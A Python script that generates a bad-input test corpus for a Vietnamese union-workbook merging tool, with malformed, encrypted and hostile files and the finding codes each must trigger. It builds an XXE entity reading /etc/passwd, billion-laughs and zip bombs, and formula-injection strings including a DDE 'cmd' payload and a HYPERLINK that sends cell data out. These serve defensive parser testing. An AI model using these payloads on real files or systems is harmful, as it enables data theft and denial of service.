"""The bad-input corpus: every kind of broken, hostile or odd file a folder of group workbooks can hold.

KINDS is the table (kind -> file -> the finding codes it must give); README.md is
rendered from it and tests/test_badinput.py reads it. Files marked "test" are made
at test time (too big to commit, or needing a symlink, a pipe or a permission);
the others are written here and committed. Regenerate from the repository root:

    python tests/badinput/make_corpus.py      # LibreOffice (soffice) for the .xls/.ods kinds

Group files carry codes B03..B24 and distinct citizen IDs, so the whole folder can
be merged at once with a unit workbook listing them (see `unit_codes()`).
"""

from __future__ import annotations

import io
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
FILES = HERE / "files"
sys.path.insert(0, str(ROOT))

import openpyxl  # noqa: E402

from tests.builders import PEOPLE, UNIT_NAME, YEAR, clean_group  # noqa: E402
from unionxl.template import write_group_workbook  # noqa: E402


@dataclass(frozen=True)
class Kind:
    kind: str
    file: str
    codes: tuple[str, ...]  # must all be found for this file; () = no error and no warning
    made: str = "script"  # "script" (committed) or "test" (made by the test at run time)


KINDS: tuple[Kind, ...] = (
    Kind("text renamed .xlsx (not a zip)", "khong-phai-zip.xlsx", ("file-unreadable",)),
    Kind("truncated zip (half a workbook)", "cat-ngang.xlsx", ("file-unreadable",)),
    Kind("zero-byte file", "rong-0-byte.xlsx", ("file-unreadable",)),
    Kind("Word document renamed .xlsx", "van-ban.xlsx", ("file-unreadable",)),
    Kind("web page saved as .xls", "bang-html.xls", ("file-unreadable",)),
    Kind("password-protected workbook (Excel encryption)", "mat-khau.xlsx", ("file-encrypted",)),
    Kind("legacy .xls saved from the template by LibreOffice", "B03-excel-97.xls", ()),
    Kind(".ods saved from the template by LibreOffice", "B04-calc.ods", ()),
    Kind(".xls renamed .xlsx", "B05-xls-doi-ten.xlsx", ()),
    Kind("CSV export instead of the workbook", "B06.csv", ("file-skipped",)),
    Kind("empty workbook", "trong.xlsx", ("file-not-unionxl",)),
    Kind("workbook from another template", "mau-khac.xlsx", ("file-not-unionxl",)),
    Kind("required sheet deleted", "B07-thieu-trang.xlsx", ("sheet-missing",)),
    Kind("header row deleted", "B08-mat-tieu-de.xlsx", ("header-missing",)),
    Kind("merged cells in the data", "B09-o-gop.xlsx", ("cell-merged",)),
    Kind("merged cells in the data, saved as .ods by LibreOffice", "B24-o-gop.ods", ("cell-merged",)),
    Kind("hidden rows and columns (their data still counts)", "B10-an-dong-cot.xlsx", ()),
    Kind("two files for the same group", "B10-ban-2.xlsx", ("group-duplicate-file",)),
    Kind("formulas without cached values (saved by a library)", "B11-cong-thuc-chua-tinh.xlsx",
         ("cell-formula-no-value", "cell-required")),
    Kind("#REF! / #VALUE! error cells", "B12-loi-cong-thuc.xlsx", ("cell-formula-error",)),
    Kind("#DIV/0! / #VALUE! computed by LibreOffice, saved as .ods", "B13-loi-cong-thuc.ods", ("cell-formula-error",)),
    Kind("text in amount cells", "B14-tien-dang-chu.xlsx", ("amount-as-text", "cell-type")),
    Kind("dates as text in several shapes and as serial numbers", "B15-ngay-dang-chu.xlsx", ("date-as-text",)),
    Kind("CCCD as a number (lost zero)", "B16-cccd-so.xlsx", ("cccd-lost-zero",)),
    Kind("CCCD in scientific notation (1.2085E+11)", "B17-cccd-1e11.xlsx", ("cccd-length",)),
    Kind("non-breaking and zero-width spaces in names and IDs", "B18-khoang-trang-an.xlsx", ()),
    Kind("strings starting with = + - @ (formula injection; stay text)", "B19-chuoi-cong-thuc.xlsx", ()),
    Kind("XML external entity (XXE) in sharedStrings", "B20-xxe.xlsx", ("file-unsafe",)),
    Kind("billion laughs in a sheet", "B21-billion-laughs.xlsx", ("file-unsafe",)),
    Kind("report year of another year", "B23-nam-khac.xlsx", ("file-year",)),
    Kind("zip bomb (60 MB of zeros in 60 KB)", "bom-zip.xlsx", ("file-too-large",)),
    Kind("zip bomb whose declared sizes lie", "bom-zip-khai-sai.xlsx", ("file-too-large",)),
    Kind("5 KB sheet spanning A1:XFD1048576 (calamine would abort)", "bom-kich-thuoc.xlsx", ("file-too-large",)),
    Kind(".ods with a cell repeated 16384 x 1048576 times", "bom-lap.ods", ("file-too-large",)),
    Kind("oversized shared-strings table", "chuoi-qua-nhieu.xlsx", ("file-too-large",), "test"),
    Kind("Excel lock file", "~$B03-excel-97.xlsx", ("file-skipped",)),
    Kind("unreadable file (permission denied)", "B22-khong-quyen.xlsx", ("file-unreadable",), "test"),
    Kind("symlink pointing outside the folder", "lien-ket-ra-ngoai.xlsx", ("file-link-outside",), "test"),
    Kind("named pipe called .xlsx (would block a reader)", "ong-dan.xlsx", ("file-unreadable",), "test"),
)

SECRET_PATH = "/etc/passwd"  # what the committed XXE file points at; tests use their own secret file


def unit_codes() -> list[str]:
    return [f"B{i:02d}" for i in range(3, 25)]


def _group(code: str, people=PEOPLE) -> dict:
    number = int(code[1:])
    return clean_group(code, people=people, offset=100 + 10 * number)


def _write(path: Path, group: dict) -> Path:
    return write_group_workbook(path, year=group["year"], unit_name=UNIT_NAME, group_code=group["code"],
                                group_name=group["name"], data=group["data"])


def _edit(path: Path, group: dict, change) -> None:
    """Write the group, then change it as an officer (or a script) would in the saved file."""
    _write(path, group)
    book = openpyxl.load_workbook(path)
    change(book)
    book.save(path)


def _rewrite_part(path: Path, part: str, change) -> None:
    with zipfile.ZipFile(path) as source:
        parts = [(info, source.read(info)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info, data in parts:
            target.writestr(info.filename, change(data) if info.filename == part else data)


def _soffice(source: Path, target_ext: str, out_dir: Path) -> Path:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    subprocess.run([soffice, "--headless", "--calc", "--convert-to", target_ext, "--outdir", str(out_dir),
                    str(source)], check=True, capture_output=True, timeout=180)
    return out_dir / (source.stem + "." + target_ext.split(":")[0])


# ----------------------------------------------------------------- makers


def make_files(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    tmp = Path(tempfile.mkdtemp())
    clean = _write(tmp / "clean.xlsx", _group("B99"))
    data = clean.read_bytes()

    (out / "khong-phai-zip.xlsx").write_text("Họ và tên;CCCD\nLò Văn Inh;012085001234\n", encoding="utf-8")
    (out / "cat-ngang.xlsx").write_bytes(data[: len(data) // 2])
    (out / "rong-0-byte.xlsx").write_bytes(b"")
    (out / "van-ban.xlsx").write_bytes(_docx())
    (out / "bang-html.xls").write_text("<html><body><table><tr><td>Họ và tên</td></tr></table></body></html>",
                                       encoding="utf-8")
    _encrypted(clean, out / "mat-khau.xlsx")
    (out / "B06.csv").write_text("STT,Họ và tên,Số CCCD\n1,Lò Văn Inh,012085001234\n", encoding="utf-8")
    openpyxl.Workbook().save(out / "trong.xlsx")
    other = openpyxl.Workbook()
    other.active.title = "Bảng lương"
    other.active.append(["Họ và tên", "Lương"])
    other.active.append(["Lò Văn Inh", 9_000_000])
    other.save(out / "mau-khac.xlsx")

    if shutil.which("soffice") or shutil.which("libreoffice"):
        _write(tmp / "B03-excel-97.xlsx", _group("B03"))
        shutil.copy(_soffice(tmp / "B03-excel-97.xlsx", "xls", tmp), out / "B03-excel-97.xls")
        _write(tmp / "B04-calc.xlsx", _group("B04"))
        shutil.copy(_soffice(tmp / "B04-calc.xlsx", "ods", tmp), out / "B04-calc.ods")
        _write(tmp / "B05-xls-doi-ten.xlsx", _group("B05"))
        shutil.copy(_soffice(tmp / "B05-xls-doi-ten.xlsx", "xls", tmp), out / "B05-xls-doi-ten.xlsx")

        def calc_errors(book):
            sheet = book["Quỹ du lịch"]
            sheet["D5"] = "=1/0"
            sheet["E5"] = '=E4+"ba mươi"'
        _edit(tmp / "B13-loi-cong-thuc.xlsx", _group("B13"), calc_errors)
        shutil.copy(_soffice(tmp / "B13-loi-cong-thuc.xlsx", "ods", tmp), out / "B13-loi-cong-thuc.ods")
        _edit(tmp / "B24-o-gop.xlsx", _group("B24"), lambda b: b["Quỹ du lịch"].merge_cells("D5:F5"))
        shutil.copy(_soffice(tmp / "B24-o-gop.xlsx", "ods", tmp), out / "B24-o-gop.ods")
    else:
        print("soffice not found: the .xls/.ods kinds keep their committed files", file=sys.stderr)

    _edit(out / "B07-thieu-trang.xlsx", _group("B07"), lambda b: b.remove(b["Quỹ tương hỗ"]))
    _edit(out / "B08-mat-tieu-de.xlsx", _group("B08"), lambda b: b["Vay vốn"].delete_rows(3))
    _edit(out / "B09-o-gop.xlsx", _group("B09"), lambda b: b["Quỹ du lịch"].merge_cells("D5:F5"))

    def hide(book):
        members = book["Đoàn viên"]
        members.row_dimensions[5].hidden = True
        members.column_dimensions["H"].hidden = True
        book["Quỹ du lịch"].column_dimensions["E"].hidden = True
    _edit(out / "B10-an-dong-cot.xlsx", _group("B10"), hide)
    _write(out / "B10-ban-2.xlsx", _group("B10"))

    def formulas(book):
        book["Quỹ du lịch"]["P4"] = "=SUM(D4:O4)"
        book["Quỹ tương hỗ"]["H4"] = "=SUM(D4:G4)"
    _edit(out / "B11-cong-thuc-chua-tinh.xlsx", _group("B11"), formulas)

    def errors(book):
        book["Quỹ du lịch"]["D5"] = "#REF!"
        book["Quỹ tương hỗ"]["E4"] = "#VALUE!"
    _edit(out / "B12-loi-cong-thuc.xlsx", _group("B12"), errors)

    group = _group("B14")
    group["data"]["travel_fund"][0]["m01"] = "30.000"
    group["data"]["travel_fund"][0]["m02"] = "30,000 đ"
    group["data"]["mutual_fund"][1]["q2"] = "hai trăm nghìn"
    _write(out / "B14-tien-dang-chu.xlsx", group)

    group = _group("B15")
    group["data"]["members"][0]["birth_date"] = "12/03/1985"
    group["data"]["members"][1]["birth_date"] = "1-7-1990"
    group["data"]["members"][2]["birth_date"] = "2001-01-20"
    group["data"]["loans"][0]["loan_date"] = "01.03.2024"

    def serial(book):
        cell = book["Đoàn viên"]["K4"]
        cell.value, cell.number_format = 42125, "General"  # 01/05/2015 in Excel's 1900 system
    _edit(out / "B15-ngay-dang-chu.xlsx", group, serial)

    group = _group("B16")
    group["data"]["members"][0]["cccd"] = int(group["data"]["members"][0]["cccd"])
    _write(out / "B16-cccd-so.xlsx", group)

    group = _group("B17")
    group["data"]["members"][0]["cccd"] = "1.2085E+11"
    _write(out / "B17-cccd-1e11.xlsx", group)

    group = _group("B18")  # only the members sheet gets the invisible characters: rows must still match
    first, second = group["data"]["members"][:2]
    first["full_name"] = first["full_name"].replace(" ", "\u00a0", 1).replace("Inh", " Inh")
    first["cccd"] = "\u200b" + first["cccd"] + "\u00a0"
    second["full_name"] = second["full_name"].replace("Thị", "Thị\u200b") + "\u00a0"
    second["cccd"] = second["cccd"][:6] + "\u200b" + second["cccd"][6:]
    _write(out / "B18-khoang-trang-an.xlsx", group)

    people = [(name, *person[1:]) for name, person in zip(INJECTIONS[:3], PEOPLE)]
    group = _group("B19", people)
    group["data"]["loans"][0]["purpose"] = INJECTIONS[3]
    group["data"]["members"][1]["note"] = INJECTIONS[4]
    group["data"]["welfare"][-1]["full_name"] = INJECTIONS[5]
    _write(out / "B19-chuoi-cong-thuc.xlsx", group)

    _write(out / "B20-xxe.xlsx", _group("B20"))
    _rewrite_part(out / "B20-xxe.xlsx", "xl/sharedStrings.xml", lambda xml: xxe(xml, SECRET_PATH))
    _write(out / "B21-billion-laughs.xlsx", _group("B21"))
    _rewrite_part(out / "B21-billion-laughs.xlsx", "xl/worksheets/sheet3.xml", billion_laughs)
    group = _group("B23")
    group["year"] = YEAR - 1
    _write(out / "B23-nam-khac.xlsx", group)

    zip_bomb(clean, out / "bom-zip.xlsx")
    zip_bomb(clean, out / "bom-zip-khai-sai.xlsx", lie=True)
    sheet_extent_bomb(out / "bom-kich-thuoc.xlsx")
    ods_repeat_bomb(out / "bom-lap.ods")
    shutil.copy(clean, out / "~$B03-excel-97.xlsx")
    shutil.rmtree(tmp)


INJECTIONS = (
    '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    "=1+1",
)


def xxe(xml: bytes, target: str) -> bytes:
    """Declare an external entity and use it in the first shared string."""
    head, _, rest = xml.partition(b"?>")
    doctype = f'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file://{target}">]>'.encode()
    return head + b"?>" + doctype + rest.replace(b"<t>", b"<t>&xxe;", 1)


def billion_laughs(xml: bytes, depth: int = 10) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">'
                                          for i in range(1, depth)]
    head, _, rest = xml.partition(b"?>")
    doctype = ("<!DOCTYPE worksheet [" + "".join(entities) + "]>").encode()
    cell = f'<c r="Z1" t="inlineStr"><is><t>&lol{depth - 1};</t></is></c>'.encode()
    return head + b"?>" + doctype + rest.replace(b"</row>", cell + b"</row>", 1)


def zip_bomb(clean: Path, path: Path, megabytes: int = 60, lie: bool = False) -> None:
    """The clean workbook plus a part of zeros that inflates 1000x; `lie` declares it as 1 KB."""
    shutil.copy(clean, path)
    name = "xl/media/image1.bin"
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(name, bytes(megabytes * 1024 * 1024))
    if lie:
        data = bytearray(path.read_bytes())
        encoded = name.encode()
        pos = 0
        while (pos := data.find(b"PK\x03\x04", pos)) != -1:  # local headers: size at +22
            if data[pos + 30: pos + 30 + len(encoded)] == encoded:
                struct.pack_into("<I", data, pos + 22, 1024)
            pos += 4
        pos = 0
        while (pos := data.find(b"PK\x01\x02", pos)) != -1:  # central directory: size at +24
            if data[pos + 46: pos + 46 + len(encoded)] == encoded:
                struct.pack_into("<I", data, pos + 24, 1024)
            pos += 4
        path.write_bytes(bytes(data))


def sheet_extent_bomb(path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.title = "Thông tin tổ"
    book.active["A1"] = "x"
    book.active["XFD1048576"] = "y"
    book.save(path)


def ods_repeat_bomb(path: Path, rows: int = 1_048_576, cols: int = 16_384) -> None:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Thông tin tổ">'
        f'<table:table-row table:number-rows-repeated="{rows}">'
        f'<table:table-cell table:number-columns-repeated="{cols}" office:value-type="float" office:value="1">'
        '<text:p>1</text:p></table:table-cell></table:table-row></table:table>'
        '</office:spreadsheet></office:body></office:document-content>')
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '</manifest:manifest>')
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)


def shared_strings_bomb(path: Path, count: int) -> None:
    """A valid one-cell workbook whose shared-strings table holds `count` distinct strings."""
    import xlsxwriter

    book = xlsxwriter.Workbook(str(path))
    book.add_worksheet("Thông tin tổ").write_string(0, 0, "Mã tổ")  # xlsxwriter keeps a shared-strings part
    book.close()
    items = b"".join(b"<si><t>s%07d</t></si>" % i for i in range(count))
    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">'
           % (count, count) + items + b"</sst>")
    _rewrite_part(path, "xl/sharedStrings.xml", lambda _old: xml)


def _encrypted(clean: Path, path: Path) -> None:
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:  # only needed to regenerate: pip install msoffcrypto-tool
        print("msoffcrypto-tool not installed: mat-khau.xlsx keeps its committed file", file=sys.stderr)
        return
    out = io.BytesIO()
    with open(clean, "rb") as handle:
        OOXMLFile(handle).encrypt("1234", out)
    path.write_bytes(out.getvalue())


def _docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.'
                         'org/package/2006/content-types"/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.'
                         'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Báo cáo</w:t>'
                         '</w:r></w:p></w:body></w:document>')
    return out.getvalue()


# ----------------------------------------------------------------- README


def readme() -> str:
    lines = [
        "# Bad-input corpus",
        "",
        "<!-- Generated by `python tests/badinput/make_corpus.py`; tests/test_badinput.py checks it is current. -->",
        "",
        "Every kind of broken, hostile or odd file a folder of group workbooks can hold, and the finding",
        "code(s) it must give. `tests/test_badinput.py` merges this whole folder with two clean groups",
        "and checks each row of the table; *none* means no error and no warning (the file is read",
        "like a clean one). Files made at *test* time are too big to commit, or need a symlink, a",
        "pipe or a permission. Group files carry codes B03..B24 and distinct citizen IDs.",
        "",
        "| kind | file | expected code(s) | made |",
        "|---|---|---|---|",
    ]
    for k in KINDS:
        codes = ", ".join(f"`{c}`" for c in k.codes) or "*none*"
        lines.append(f"| {k.kind} | `{k.file}` | {codes} | {k.made} |")
    return "\n".join(lines) + "\n"


def main() -> None:
    make_files(FILES)
    (HERE / "README.md").write_text(readme(), encoding="utf-8")
    for path in sorted(FILES.iterdir()):
        print(f"{path.stat().st_size:>9}  {path.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
